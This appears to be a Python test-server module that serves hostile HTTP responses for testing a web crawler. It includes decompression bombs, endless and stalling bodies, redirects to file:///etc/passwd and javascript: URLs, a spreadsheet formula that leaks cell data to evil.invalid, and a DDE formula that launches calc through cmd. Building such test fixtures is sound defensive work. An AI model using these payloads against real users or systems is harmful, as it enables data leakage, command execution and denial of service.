"""The zoo's HTTP endpoints: hostile but well-framed responses, as aiohttp routes.

``zoo_routes(options)`` returns a route table to serve beside the site's own
(``TestWeb(extra_routes=zoo_routes())``); :class:`shoal.testweb.zoo.Zoo` adds
the raw-socket and TLS behaviours and serves them all at once.

==============================  ==============================================
``/zoo/``                       index linking to every zoo endpoint
``/zoo/ok``                     a small valid page
``/zoo/stall``                  headers (Content-Length 1024), then nothing
``/zoo/drip``                   headers, then one body byte every ``drip`` s
``/zoo/endless``                a chunked body that never ends
``/zoo/endless-declared``       ``Content-Length: 2**40``, then as above
``/zoo/bomb/gzip``              ~10 MB of gzip that inflates to 10 GiB of zeros
``/zoo/bomb/deflate``           the same as zlib-wrapped deflate
``/zoo/bomb/br``                ~2 KB of brotli that inflates to 1 GiB
``/zoo/bomb/zstd``              ~130 KB of zstd (16 frames) that inflates to 4 GiB
``/zoo/bad-encoding/{enc}``     ``Content-Encoding: gzip|br|zstd`` over bytes that are not
``/zoo/long-line``              10 MB of HTML on one line, a link at each end
``/zoo/links-dense``            10 MB of HTML: 380,000 distinct links (not in the index)
``/zoo/charset/{variant}``      undecodable or mislabelled text (see ``CHARSET_VARIANTS``)
``/zoo/binary``                 64 KiB of random bytes served as ``text/html``
``/zoo/formula``                a page whose title and text are spreadsheet formulas
``/zoo/loop/{a|b}``             302 a → b → a → …
``/zoo/chain/{n}``              302 chain of n hops, then ``/zoo/ok``
``/zoo/redirect-scheme/{s}``    302 to a non-http URL (ftp, file, javascript, mailto, data)
``/zoo/429/{key}``              always 429 with ``Retry-After: retry_after``
``/zoo/5xx/{key}``              ``?p=P``: a random 5xx with probability P, else a page
``/zoo/calendar/{y}/{m}[/{d}]`` a calendar whose links never end
==============================  ==============================================

The bombs, and how they are served without being held in full, are in
``_bombs``.
"""

from __future__ import annotations

import asyncio
import calendar
import contextlib
import functools
import hashlib
import random
from collections.abc import AsyncGenerator, Callable
from dataclasses import dataclass, field
from html import escape

from aiohttp import web

from shoal.testweb._bombs import brotli_bomb, deflate_bomb, zstd_bomb
from shoal.testweb._state import MAX_WAIT, STATE

__all__ = [
    "CHARSET_VARIANTS",
    "FORMULA_TEXT",
    "FORMULA_TITLE",
    "REDIRECT_SCHEMES",
    "ZOO_PATHS",
    "ZooOptions",
    "zoo_routes",
]

_ENDLESS_CHUNK = (b"<p>" + b"endless " * 8190 + b"</p>\n")[: 64 * 1024]
_RETRYABLE_5XX = (500, 502, 503, 504)
_HTML = "text/html; charset=utf-8"

#: ``/zoo/redirect-scheme/{scheme}`` targets.
REDIRECT_SCHEMES: dict[str, str] = {
    "ftp": "ftp://127.0.0.1/file.txt",
    "file": "file:///etc/passwd",
    "javascript": "javascript:alert(1)",
    "mailto": "mailto:nobody@example.invalid",
    "data": "data:text/html,<p>hi</p>",
}


def _page(title: str, *hrefs: str, charset: str = "utf-8", extra: str = "") -> str:
    links = "".join(f'<li><a href="{escape(h)}">{escape(h)}</a></li>\n' for h in hrefs)
    return (
        f'<!doctype html>\n<html><head><meta charset="{charset}"><title>{escape(title)}</title>'
        f"</head><body><h1>{escape(title)}</h1>{extra}<ul>\n{links}</ul></body></html>\n"
    )


def _charset_bodies() -> dict[str, tuple[str, bytes]]:
    def link(variant: str) -> str:
        return f'<a href="/zoo/ok?from=charset-{variant}">next</a>'

    return {
        # Declared UTF-8; bytes that no UTF-8 decoder accepts (lone continuation, overlong,
        # surrogate, truncated sequence).
        "invalid-utf8": (
            "text/html; charset=utf-8",
            b"<!doctype html><html><body><p>\xff\xfe \x80\xbf \xc0\xaf \xed\xa0\x80 \xe2\x82</p>"
            + link("invalid-utf8").encode()
            + b"</body></html>",
        ),
        "latin1-as-utf8": (
            "text/html; charset=utf-8",
            _page(
                "caf\u00e9 cr\u00e8me br\u00fbl\u00e9e", "/zoo/ok?from=charset-latin1-as-utf8"
            ).encode("latin-1"),
        ),
        "utf8-as-latin1": (
            "text/html; charset=iso-8859-1",
            _page("\u65e5\u672c\u8a9e \u2603", "/zoo/ok?from=charset-utf8-as-latin1").encode(),
        ),
        "unknown-charset": (
            "text/html; charset=x-klingon-pIqaD",
            _page("unknown charset", "/zoo/ok?from=charset-unknown-charset").encode(),
        ),
        # The header, the meta tag and the bytes all disagree.
        "meta-conflict": (
            "text/html; charset=utf-8",
            _page(
                "\u041f\u0440\u0438\u0432\u0435\u0442",
                "/zoo/ok?from=charset-meta-conflict",
                charset="shift_jis",
            ).encode("cp1251"),
        ),
        # A UTF-16 body with no byte-order mark and no label anywhere.
        "utf16-unlabelled": (
            "text/html",
            _page("utf-16", "/zoo/ok?from=charset-utf16-unlabelled").encode("utf-16-le"),
        ),
        # A UTF-8 byte-order mark in front of Latin-1 bytes.
        "bom-lies": (
            "text/html; charset=iso-8859-1",
            b"\xef\xbb\xbf" + _page("caf\u00e9", "/zoo/ok?from=charset-bom-lies").encode("latin-1"),
        ),
    }


_CHARSETS = _charset_bodies()
#: ``/zoo/charset/{variant}`` names; each page links to ``/zoo/ok?from=charset-{variant}``.
CHARSET_VARIANTS: tuple[str, ...] = tuple(_CHARSETS)

#: A page a spreadsheet would run: its title and first paragraph are formulas.
FORMULA_TITLE = '=HYPERLINK("http://evil.invalid/?leak="&A1,"Click")'
FORMULA_TEXT = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_PAGE = (
    f"<!doctype html><html><head><title>{escape(FORMULA_TITLE)}</title></head>"
    f"<body><p>{escape(FORMULA_TEXT)}</p></body></html>"
)

#: Every zoo path without parameters, as the index links to them.
ZOO_PATHS: tuple[str, ...] = (
    "/zoo/ok",
    "/zoo/stall",
    "/zoo/drip",
    "/zoo/endless",
    "/zoo/endless-declared",
    "/zoo/bomb/gzip",
    "/zoo/bomb/deflate",
    "/zoo/bomb/br",
    "/zoo/bomb/zstd",
    "/zoo/bad-encoding/gzip",
    "/zoo/bad-encoding/br",
    "/zoo/bad-encoding/zstd",
    "/zoo/long-line",
    *(f"/zoo/charset/{variant}" for variant in CHARSET_VARIANTS),
    "/zoo/binary",
    "/zoo/formula",
    "/zoo/loop/a",
    "/zoo/chain/50",
    *(f"/zoo/redirect-scheme/{scheme}" for scheme in REDIRECT_SCHEMES),
    "/zoo/429/index",
    "/zoo/5xx/index",
    "/zoo/calendar/2024/1",
)


@dataclass(kw_only=True)
class ZooOptions:
    """Knobs of the zoo's endpoints. ``links``, when not empty, replace ``ZOO_PATHS`` as
    the index's links: :class:`~shoal.testweb.zoo.Zoo` fills them in once it knows its
    ports (the raw and TLS ports, the rate-limited and calendar hosts)."""

    drip: float = 1.0
    retry_after: int = 1
    long_line_bytes: int = 10_000_000
    gzip_mib: int = 10 * 1024
    br_mib: int = 1024
    zstd_mib: int = 4 * 1024  # a multiple of 256 (one zstd frame)
    links: list[str] = field(default_factory=list)


# -- helpers ----------------------------------------------------------------


async def _cached(fn: Callable[[], bytes]) -> bytes:
    """``fn()`` (a functools.cache'd builder), computed in a thread the first time."""
    return await asyncio.to_thread(fn)


def _html(text: str, status: int = 200) -> web.Response:
    return web.Response(body=text.encode(), status=status, headers={"Content-Type": _HTML})


def _redirect(location: str) -> web.Response:
    return web.Response(status=302, headers={"Location": location, "Content-Type": _HTML})


def _unit(*parts: object) -> float:
    key = ":".join(map(str, parts)).encode()
    return int.from_bytes(hashlib.blake2b(key, digest_size=8).digest(), "big") / 2**64


async def _stream(
    request: web.Request, response: web.StreamResponse, chunks: AsyncGenerator[bytes, None]
) -> web.StreamResponse:
    """Write ``chunks`` until they end, the client leaves or the server closes."""
    state = request.app[STATE]
    await response.prepare(request)
    try:
        async with contextlib.aclosing(chunks):
            async for chunk in chunks:
                if state.closing:
                    break
                await response.write(chunk)
            else:
                await response.write_eof()
                return response
    except ConnectionResetError:
        return response  # the client gave up, as it should
    if request.transport is not None:
        request.transport.close()
    return response


async def _forever(chunk: bytes) -> AsyncGenerator[bytes, None]:
    while True:
        yield chunk


# -- routes -----------------------------------------------------------------


def zoo_routes(options: ZooOptions | None = None) -> web.RouteTableDef:
    """The zoo's aiohttp routes, configured by ``options``."""
    opts = options if options is not None else ZooOptions()
    routes = web.RouteTableDef()

    @routes.get("/zoo/")
    async def index(request: web.Request) -> web.StreamResponse:
        return _html(_page("zoo", *(opts.links or ZOO_PATHS)))

    @routes.get("/zoo/ok")
    async def ok(request: web.Request) -> web.StreamResponse:
        return _html(_page("ok"))

    @routes.get("/zoo/stall")
    async def stall(request: web.Request) -> web.StreamResponse:
        response = web.StreamResponse(headers={"Content-Type": _HTML})
        response.content_length = 1024
        await response.prepare(request)
        await request.app[STATE].wait(MAX_WAIT)
        if request.transport is not None:
            request.transport.close()
        return response

    @routes.get("/zoo/drip")
    async def drip(request: web.Request) -> web.StreamResponse:
        state = request.app[STATE]
        response = web.StreamResponse(headers={"Content-Type": _HTML})
        response.content_length = 1_000_000
        await response.prepare(request)
        try:
            await response.write(b"<")
            while await state.wait(opts.drip):
                await response.write(b"p")
        except ConnectionResetError:
            return response
        if request.transport is not None:
            request.transport.close()
        return response

    @routes.get("/zoo/endless")
    async def endless(request: web.Request) -> web.StreamResponse:
        response = web.StreamResponse(headers={"Content-Type": _HTML})
        response.enable_chunked_encoding()
        return await _stream(request, response, _forever(_ENDLESS_CHUNK))

    @routes.get("/zoo/endless-declared")
    async def endless_declared(request: web.Request) -> web.StreamResponse:
        response = web.StreamResponse(headers={"Content-Type": _HTML})
        response.content_length = 1 << 40
        return await _stream(request, response, _forever(_ENDLESS_CHUNK))

    @routes.get("/zoo/bomb/gzip")
    async def bomb_gzip(request: web.Request) -> web.StreamResponse:
        response = web.StreamResponse(headers={"Content-Type": _HTML, "Content-Encoding": "gzip"})
        response.enable_chunked_encoding()
        return await _stream(request, response, deflate_bomb(opts.gzip_mib, gzip=True))

    @routes.get("/zoo/bomb/deflate")
    async def bomb_deflate(request: web.Request) -> web.StreamResponse:
        headers = {"Content-Type": _HTML, "Content-Encoding": "deflate"}
        response = web.StreamResponse(headers=headers)
        response.enable_chunked_encoding()
        return await _stream(request, response, deflate_bomb(opts.gzip_mib, gzip=False))

    @routes.get("/zoo/bomb/zstd")
    async def bomb_zstd(request: web.Request) -> web.StreamResponse:
        body = await zstd_bomb(opts.zstd_mib)
        return web.Response(body=body, headers={"Content-Type": _HTML, "Content-Encoding": "zstd"})

    @routes.get("/zoo/bomb/br")
    async def bomb_br(request: web.Request) -> web.StreamResponse:
        body = await brotli_bomb(opts.br_mib)
        return web.Response(body=body, headers={"Content-Type": _HTML, "Content-Encoding": "br"})

    @routes.get("/zoo/bad-encoding/{encoding}")
    async def bad_encoding(request: web.Request) -> web.StreamResponse:
        encoding = request.match_info["encoding"]
        body = b"<!doctype html><p>these bytes are not " + encoding.encode() + b" at all</p>"
        return web.Response(
            body=body * 20, headers={"Content-Type": _HTML, "Content-Encoding": encoding}
        )

    @routes.get("/zoo/links-dense")
    async def links_dense(request: web.Request) -> web.StreamResponse:
        body = await _cached(_links_dense)
        return web.Response(body=body, headers={"Content-Type": _HTML})

    @routes.get("/zoo/long-line")
    async def long_line(request: web.Request) -> web.StreamResponse:
        body = await _cached(functools.partial(_long_line, opts.long_line_bytes))
        return web.Response(body=body, headers={"Content-Type": _HTML})

    @routes.get("/zoo/charset/{variant}")
    async def charset(request: web.Request) -> web.StreamResponse:
        found = _CHARSETS.get(request.match_info["variant"])
        if found is None:
            raise web.HTTPNotFound()
        content_type, body = found
        return web.Response(body=body, headers={"Content-Type": content_type})

    @routes.get("/zoo/binary")
    async def binary(request: web.Request) -> web.StreamResponse:
        return web.Response(body=_binary(), headers={"Content-Type": _HTML})

    @routes.get("/zoo/formula")
    async def formula(request: web.Request) -> web.StreamResponse:
        return _html(FORMULA_PAGE)

    @routes.get("/zoo/loop/{side}")
    async def loop(request: web.Request) -> web.StreamResponse:
        return _redirect("/zoo/loop/b" if request.match_info["side"] == "a" else "/zoo/loop/a")

    @routes.get(r"/zoo/chain/{n:\d+}")
    async def chain(request: web.Request) -> web.StreamResponse:
        n = int(request.match_info["n"])
        return _redirect(f"/zoo/chain/{n - 1}" if n > 0 else "/zoo/ok?from=chain")

    @routes.get("/zoo/redirect-scheme/{scheme}")
    async def redirect_scheme(request: web.Request) -> web.StreamResponse:
        target = REDIRECT_SCHEMES.get(request.match_info["scheme"])
        if target is None:
            raise web.HTTPNotFound()
        return _redirect(target)

    @routes.get("/zoo/429/{key}")
    async def too_many(request: web.Request) -> web.StreamResponse:
        after = request.query.get("after", str(opts.retry_after))
        return web.Response(
            status=429,
            body=b"slow down\n",
            headers={"Content-Type": "text/plain", "Retry-After": after},
        )

    @routes.get("/zoo/5xx/{key}")
    async def random_5xx(request: web.Request) -> web.StreamResponse:
        state = request.app[STATE]
        try:
            p = float(request.query.get("p", "0.5"))
        except ValueError:
            raise web.HTTPBadRequest(text="p must be a number\n") from None
        key = request.match_info["key"]
        counter = (state.host_of(request), f"zoo-5xx:{key}:{p}")
        seen = state.counters.get(counter, 0) + 1
        state.counters[counter] = seen
        # Random, but the same for the n-th request of one URL in every run.
        if _unit("5xx", key, p, seen) < p:
            status = _RETRYABLE_5XX[int(_unit("code", key, seen) * len(_RETRYABLE_5XX))]
            return _html(_page(f"error {status}"), status)
        return _html(_page(f"5xx {key}: ok on request {seen}"))

    @routes.get(r"/zoo/calendar/{year:\d+}/{month:\d+}")
    async def calendar_month(request: web.Request) -> web.StreamResponse:
        year, month = int(request.match_info["year"]), int(request.match_info["month"])
        if not 1 <= month <= 12:
            raise web.HTTPNotFound()
        return _html(_calendar_month(year, month))

    @routes.get(r"/zoo/calendar/{year:\d+}/{month:\d+}/{day:\d+}")
    async def calendar_day(request: web.Request) -> web.StreamResponse:
        year, month, day = (int(request.match_info[k]) for k in ("year", "month", "day"))
        if not 1 <= month <= 12 or not 1 <= day <= calendar.monthrange(year, month)[1]:
            raise web.HTTPNotFound()
        return _html(_calendar_day(year, month, day, request.query.get("view", "day")))

    return routes


@functools.cache
@functools.cache
def _links_dense() -> bytes:
    links = b"".join(b"<a href=/zoo/d%d>x</a>\n" % n for n in range(380_000))
    return b"<!doctype html><html><body>" + links + b"</body></html>"


def _long_line(size: int) -> bytes:
    head = (
        b"<!doctype html><html><head><title>one line</title></head><body>"
        b'<a href="/zoo/ok?from=long-line-start">start</a><p>'
    )
    tail = b'</p><a href="/zoo/ok?from=long-line-end">end</a></body></html>'
    filler = b"all on one line, " * (max(0, size - len(head) - len(tail)) // 17 + 1)
    return head + filler[: max(0, size - len(head) - len(tail))] + tail


@functools.cache
def _binary() -> bytes:
    return random.Random(6).randbytes(64 * 1024)


def _month_path(year: int, month: int) -> str:
    year, month = (year - 1, 12) if month < 1 else (year + 1, 1) if month > 12 else (year, month)
    return f"/zoo/calendar/{year}/{month}"


def _calendar_month(year: int, month: int) -> str:
    days = calendar.monthrange(year, month)[1]
    return _page(
        f"{calendar.month_name[month]} {year}",
        _month_path(year, month - 1),
        _month_path(year, month + 1),
        _month_path(year - 1, month),
        _month_path(year + 1, month),
        *(f"/zoo/calendar/{year}/{month}/{day}" for day in range(1, days + 1)),
    )


def _calendar_day(year: int, month: int, day: int, view: str) -> str:
    days = calendar.monthrange(year, month)[1]
    before = f"/zoo/calendar/{year}/{month}/{day - 1}" if day > 1 else _month_path(year, month - 1)
    after = (
        f"/zoo/calendar/{year}/{month}/{day + 1}" if day < days else _month_path(year, month + 1)
    )
    views = [f"/zoo/calendar/{year}/{month}/{day}?view={v}" for v in ("week", "agenda", "print")]
    return _page(f"{year}-{month:02}-{day:02} ({view})", before, after, *views)
